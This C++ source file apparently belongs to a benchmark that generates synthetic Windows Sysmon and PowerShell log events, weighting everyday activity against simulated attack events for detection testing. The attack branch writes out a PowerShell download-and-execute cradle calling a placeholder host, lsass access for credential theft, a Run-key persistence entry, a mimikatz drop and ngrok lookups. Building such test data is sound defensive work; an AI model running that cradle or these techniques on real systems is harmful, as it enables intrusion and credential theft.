// SPDX-License-Identifier: Apache-2.0
// The Sysmon and PowerShell events of WindowsStream, and which of all events comes next.
#include <array>

#include "bench/generator/template_text.h"
#include "bench/generator/windows_stream.h"

namespace catena::generator {
namespace {

std::string braced(std::string_view guid) { return "{" + std::string(guid) + "}"; }

// A path through libraries, as Sysmon writes the call stack of an access.
std::string call_trace(Random& random) {
  constexpr std::size_t kFrames = 9;
  std::string trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+" + random.hex(5);
  for (std::size_t i = 0; i < kFrames; ++i) {
    trace += "|";
    trace += random.pick(loaded_libraries());
    trace += "+" + random.hex(5);
  }
  return trace;
}

enum class Activity : std::uint8_t {
  kAccess,
  kKey,
  kLibrary,
  kValue,
  kPermitted,
  kFile,
  kConnection,
  kRight,
  kCommand,
  kScript,
  kDns,
  kLogon,
  kFailedLogon,
};

struct WeightedActivity {
  std::uint32_t weight;
  Activity activity;
};

// In proportion to a recorded network, with the kinds left out here shared among the others.
constexpr std::array<WeightedActivity, 13> kEveryday = {{
    {400, Activity::kAccess},
    {145, Activity::kKey},
    {120, Activity::kLibrary},
    {85, Activity::kValue},
    {60, Activity::kPermitted},
    {20, Activity::kFile},
    {20, Activity::kConnection},
    {15, Activity::kRight},
    {60, Activity::kCommand},
    {8, Activity::kScript},
    {10, Activity::kDns},
    {8, Activity::kLogon},
    {2, Activity::kFailedLogon},
}};

constexpr std::array<Activity, 8> kAttacks = {
    Activity::kAccess, Activity::kValue, Activity::kConnection, Activity::kFile,
    Activity::kScript, Activity::kDns,   Activity::kLogon,      Activity::kFailedLogon};

}  // namespace

void WindowsStream::everyday_other(const Place& place, std::string& out) {
  switch (random_.pick_weighted(kEveryday).activity) {
    case Activity::kAccess:
      return process_access(place, {place.host.any_process(random_), "0x1000"}, out);
    case Activity::kKey:
      return registry_key(place, out);
    case Activity::kLibrary:
      return library_load(place, out);
    case Activity::kValue:
      return everyday_value(place, out);
    case Activity::kPermitted:
      return connection_permitted(place, out);
    case Activity::kFile:
      return file_created(place, fill(place, random_.pick(created_files())), out);
    case Activity::kConnection:
      return connection(place, {place.host.find("svchost.exe"), fill(place, "{ip}"), "443"}, out);
    case Activity::kRight:
      return right_adjusted(place, out);
    case Activity::kCommand:
      return script_command(place, out);
    case Activity::kScript:
      return script_block(place, fill(place, random_.pick(script_lines())), out);
    case Activity::kDns:
      return dns_query(place, fill(place, random_.pick(domain_names())), out);
    case Activity::kLogon:
      return logon(place, {true, "3", fill(place, "{ip}")}, out);
    case Activity::kFailedLogon:
      return logon(place, {false, "3", fill(place, "{ip}")}, out);
  }
}

void WindowsStream::everyday_value(const Place& place, std::string& out) {
  const std::string name = fill(place, random_.pick(registry_values()));
  const bool binary = random_.chance(500'000);
  registry_value(place, name, binary ? "Binary Data" : "DWORD (0x00000001)", out);
}

void WindowsStream::attack_other(const Place& place, std::string& out) {
  const std::string folder = "C:\\Users\\" + place.host.user().name + "\\AppData\\Local\\Temp\\";
  const Process tool{folder + fill(place, "{word}.exe"), "", place.host.new_process_guid(random_),
                     static_cast<std::uint32_t>(random_.between(100, 4000)) * 4, false};
  switch (random_.pick(kAttacks)) {
    case Activity::kAccess:
      return process_access(place, {tool, "0x1010"}, out);
    case Activity::kValue:
      return registry_value(
          place,
          "HKU\\" + place.host.user().sid +
              fill(place, "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{word}"),
          tool.image, out);
    case Activity::kConnection:
      return connection(place, {tool, fill(place, "{out}"), "443"}, out);
    case Activity::kFile:
      return file_created(place, folder + "mimikatz.exe", out);
    case Activity::kScript:
      return script_block(
          place,
          fill(place, "IEX (New-Object Net.WebClient).DownloadString('http://{out}/{word}')"), out);
    case Activity::kDns:
      return dns_query(place, fill(place, "{hex}.ngrok.io"), out);
    case Activity::kLogon:
      return logon(place, {true, "10", fill(place, "{out}")}, out);
    default:
      return logon(place, {false, "3", fill(place, "{out}")}, out);
  }
}

void WindowsStream::connection(const Place& place, const Connection& to, std::string& out) {
  WindowsRecord record = sysmon(place, 3, "Network connection detected:");
  add_process_values(record, place, to.process);
  record.add("Protocol", "tcp")
      .add("Initiated", "true", Need::kEssential)
      .add("SourceIsIpv6", "false")
      .add("SourceIp", place.host.address())
      .add("SourceHostname", place.host.name())
      .add("SourcePort", std::to_string(random_.between(49'152, 65'535)))
      .add("SourcePortName", "-")
      .add("DestinationIsIpv6", "false")
      .add("DestinationIp", to.address, Need::kEssential)
      .add("DestinationHostname", "-")
      .add("DestinationPort", to.port, Need::kEssential)
      .add("DestinationPortName", "https");
  write(place, record, out);
}

void WindowsStream::library_load(const Place& place, std::string& out) {
  WindowsRecord record = sysmon(place, 7, "Image loaded:");
  add_process_values(record, place, place.host.any_process(random_));
  const std::string_view library = random_.pick(loaded_libraries());
  const std::string_view name = library.substr(library.rfind('\\') + 1);
  record.add("ImageLoaded", library, Need::kEssential)
      .add("FileVersion", "10.0.19041.4355 (WinBuild.160101.0800)")
      .add("Description", name)
      .add("Product", "Microsoft® Windows® Operating System")
      .add("Company", "Microsoft Corporation")
      .add("OriginalFileName", name)
      .add("Hashes", hashes(library))
      .add("Signed", "true")
      .add("Signature", "Microsoft Windows")
      .add("SignatureStatus", "Valid");
  write(place, record, out);
}

void WindowsStream::process_access(const Place& place, const Access& access, std::string& out) {
  const bool reads_secrets = access.granted == "0x1010";
  const Process& target =
      reads_secrets ? place.host.find("lsass.exe") : place.host.any_process(random_);
  const Account& source_account = place.host.account_of(access.source);
  WindowsRecord record = sysmon(place, 10, "Process accessed:");
  record.add("SourceProcessGUID", braced(access.source.guid))
      .add("SourceProcessId", std::to_string(access.source.pid))
      .add("SourceThreadId", std::to_string(random_.between(100, 9999)))
      .add("SourceImage", access.source.image, Need::kEssential)
      .add("TargetProcessGUID", braced(target.guid))
      .add("TargetProcessId", std::to_string(target.pid))
      .add("TargetImage", target.image, Need::kEssential)
      .add("GrantedAccess", access.granted, Need::kEssential)
      .add("CallTrace", call_trace(random_))
      .add("SourceUser", source_account.full_name())
      .add("TargetUser", place.host.account_of(target).full_name());
  write(place, record, out);
}

void WindowsStream::file_created(const Place& place, std::string_view path, std::string& out) {
  WindowsRecord record = sysmon(place, 11, "File created:");
  add_process_values(record, place, place.host.find("explorer.exe"));
  record.add("TargetFilename", path, Need::kEssential).add("CreationUtcTime", utc_time(place.time));
  write(place, record, out);
}

void WindowsStream::registry_key(const Place& place, std::string& out) {
  WindowsRecord record = sysmon(place, 12, "Registry object added or deleted:");
  record.add("EventType", random_.chance(800'000) ? "CreateKey" : "DeleteKey", Need::kEssential);
  add_process_values(record, place, place.host.any_process(random_));
  record.add("TargetObject", fill(place, random_.pick(registry_values())), Need::kEssential);
  write(place, record, out);
}

void WindowsStream::registry_value(const Place& place, std::string_view key,
                                   std::string_view details, std::string& out) {
  WindowsRecord record = sysmon(place, 13, "Registry value set:");
  record.add("EventType", "SetValue", Need::kEssential);
  add_process_values(record, place, place.host.find("svchost.exe"));
  record.add("TargetObject", key, Need::kEssential).add("Details", details, Need::kEssential);
  write(place, record, out);
}

void WindowsStream::dns_query(const Place& place, std::string_view name, std::string& out) {
  WindowsRecord record = sysmon(place, 22, "Dns query:");
  add_process_values(record, place, place.host.find("svchost.exe"));
  record.add("QueryName", name, Need::kEssential)
      .add("QueryStatus", "0")
      .add("QueryResults", "type:  5 edge.static.example;::ffff:" + fill(place, "{out}") + ";");
  write(place, record, out);
}

void WindowsStream::script_block(const Place& place, std::string_view script, std::string& out) {
  WindowsRecord record({"Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell",
                        "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}", 4104,
                        "Creating Scriptblock text (1 of 1):", "0x0"},
                       place.host.name(), place.time);
  record.add("MessageNumber", "1")
      .add("MessageTotal", "1")
      .add("ScriptBlockText", script, Need::kEssential)
      .add("ScriptBlockId", random_.guid())
      .add("Path", "");
  write(place, record, out);
}

void WindowsStream::script_command(const Place& place, std::string& out) {
  WindowsRecord record(
      {"Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell",
       "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}", 4103, "CommandInvocation:", "0x0"},
      place.host.name(), place.time);
  const std::string script = fill(place, random_.pick(script_lines()));
  const std::string context = joined(
      {"        Severity = Informational\n        Host Name = ConsoleHost\n        Host Version = "
       "5.1.19041.4291\n        Host ID = ",
       random_.guid(),
       "\n        Host Application = powershell.exe -NoLogo -NonInteractive\n        Engine "
       "Version "
       "= 5.1.19041.4291\n        Runspace ID = ",
       random_.guid(), "\n        Command Name = Out-Default\n        User = ",
       place.host.user().full_name(), "\n        Shell ID = Microsoft.PowerShell\n"});
  record.add("ContextInfo", context)
      .add("UserData", "")
      .add("Payload",
           "CommandInvocation(Out-Default): \"Out-Default\"\nParameterBinding(Out-Default): "
           "name=\"InputObject\"; value=\"" +
               script + "\"\n",
           Need::kEssential);
  write(place, record, out);
}

}  // namespace catena::generator
